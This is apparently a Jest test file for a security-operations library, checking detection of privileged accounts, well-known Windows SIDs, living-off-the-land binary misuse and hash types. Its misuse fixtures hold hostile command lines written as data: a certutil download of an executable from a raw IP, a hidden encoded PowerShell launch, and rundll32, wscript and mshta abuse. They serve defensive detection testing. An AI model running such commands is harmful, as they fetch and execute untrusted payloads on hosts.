import { expect, test } from '@jest/globals';
import { techniqueOf } from '@socmate/entities';
import { hashKind } from './hash-kind.ts';
import { livingOffTheLand } from './living-off-the-land.ts';
import { privilegedAccounts } from './privileged-accounts.ts';
import { SYSTEM_BINARIES } from './system-binaries.ts';
import { anEntity } from './test-incident.ts';
import { wellKnownSid } from './well-known-sids.ts';

const DOMAIN_SID = 'S-1-5-21-2871404512-3020916455-1188210045';
const privilegesOf = (attributes: Record<string, unknown>) =>
  privilegedAccounts.find(anEntity('user', 'x@contoso.com', { attributes }))?.evidence?.['privileges'];

test('well-known SIDs have their names, from attributes and from keys', () => {
  const nameOf = (sid: string) => wellKnownSid.find(anEntity('user', 'x', { attributes: { sid } }))?.summary;
  expect(nameOf('S-1-5-18')).toBe('Local System');
  expect(nameOf(`${DOMAIN_SID}-500`)).toBe('Administrator');
  expect(nameOf('s-1-5-32-544')).toBe('Administrators');
  expect(nameOf(`${DOMAIN_SID}-1642`)).toBeUndefined();
  const aliases = ['user:sid:s-1-5-19@prod'];
  expect(wellKnownSid.find(anEntity('user', 'x', { aliases }))?.summary).toBe('Local Service');
});

test('privileged roles are known by name and by template id', () => {
  expect(privilegesOf({ assigned_roles: ['Helpdesk Administrator', 'Global Administrator'] })).toEqual([
    'Global Administrator',
    'Helpdesk Administrator',
  ]);
  expect(privilegesOf({ assigned_roles: '62E90394-69F5-4237-9190-012177145E10' })).toEqual([
    'Global Administrator',
  ]);
  expect(privilegesOf({ roles: ['Directory Readers'] })).toBeUndefined();
});

test('privileged groups, SIDs and marks count as well', () => {
  expect(privilegesOf({ group_memberships: ['Finance', 'CONTOSO\\Domain Admins'] })).toEqual([
    'CONTOSO\\Domain Admins',
  ]);
  expect(privilegesOf({ member_of: ['CN=Enterprise Admins,CN=Users,DC=contoso,DC=com'] })).toHaveLength(1);
  expect(privilegesOf({ sid: `${DOMAIN_SID}-500` })).toEqual(['Administrator']);
  expect(privilegesOf({ sensitive: 'True' })).toEqual(['marked as sensitive']);
  expect(
    privilegesOf({ sensitive: 'False', sid: 'S-1-5-18', job_title: 'Global Administrator' }),
  ).toBeUndefined();
});

test('only accounts are privileged', () => {
  const host = anEntity('host', 'dc01', { attributes: { sensitive: 'True' } });
  expect(privilegedAccounts.find(host)).toBeUndefined();
});

const processOf = (value: string) => livingOffTheLand.find(anEntity('process', value));

test.each([
  ['rundll32.exe C:\\Users\\adele\\AppData\\Local\\Temp\\msedge_upd.dll,DllRegisterServer', 'rundll32.exe'],
  ['"C:\\Windows\\System32\\wscript.exe" "C:\\Users\\a\\Downloads\\x.js"', 'wscript.exe'],
  ['powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'powershell.exe'],
  ['certutil.exe -urlcache -split -f http://45.155.205.20/a.exe a.exe', 'certutil.exe'],
  ['C:\\Windows\\System32\\mshta.exe javascript:close()', 'mshta.exe'],
])('%s is a misuse', (command, name) => {
  expect(processOf(command)).toMatchObject({ verdict: 'suspicious', evidence: { name } });
});

test('a program of the system without arguments of misuse is shown and no opinion', () => {
  const found = processOf('C:\\Windows\\System32\\rundll32.exe shell32.dll,Control_RunDLL');
  expect(found?.context).toEqual({ system_binary: 'rundll32.exe' });
  expect(found?.verdict).toBeUndefined();
  expect(
    livingOffTheLand.find(anEntity('file', 'C:\\Windows\\System32\\certutil.exe'))?.verdict,
  ).toBeUndefined();
});

test('other programs say nothing, whatever their arguments', () => {
  expect(processOf('"C:\\Program Files\\7-Zip\\7z.exe" a E:\\x.7z "C:\\Temp\\*"')).toBeUndefined();
  expect(processOf('C:\\Windows\\Temp\\WinUpdSvc.exe -k netsvcs')).toBeUndefined();
  expect(processOf('')).toBeUndefined();
});

test('a command line of any length is read in no time', () => {
  for (const letter of ['A', ' ', '\\', '"', '-', '/', '%']) {
    const began = performance.now();
    processOf(`powershell.exe ${letter.repeat(1_000_000)}`);
    expect(performance.now() - began).toBeLessThan(1_000);
  }
});

test('the techniques of the programs are current ones of ATT&CK', () => {
  for (const id of [...SYSTEM_BINARIES.values()].flat()) expect(techniqueOf(id)?.id).toBe(id);
});

test('a hash shows its algorithm, and that of nothing is known good', () => {
  const sha256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
  expect(hashKind.find(anEntity('hash', sha256))).toMatchObject({
    verdict: 'benign',
    context: { algorithm: 'sha256' },
  });
  expect(hashKind.find(anEntity('hash', 'a'.repeat(32)))).toEqual({
    reliability: 'A',
    summary: 'md5',
    evidence: { algorithm: 'md5' },
    context: { algorithm: 'md5' },
  });
});
